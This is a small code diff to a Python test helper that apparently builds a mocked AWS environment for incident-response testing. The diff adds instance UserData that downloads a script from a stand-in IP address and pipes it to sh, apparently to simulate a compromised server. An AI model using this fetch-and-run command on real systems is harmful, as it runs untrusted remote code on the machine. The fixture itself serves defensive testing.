@@ -94,6 +94,7 @@ def make_world(region: str = "us-east-1", *, bucket: str | None = "ir-evidence",
             {"DeviceName": "/dev/xvdb", "Ebs": {"VolumeSize": 20}},
         ],
         TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": "web-1"}]}],
+        UserData="#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n",
     )["Instances"][0]["InstanceId"]
 
     if bucket:
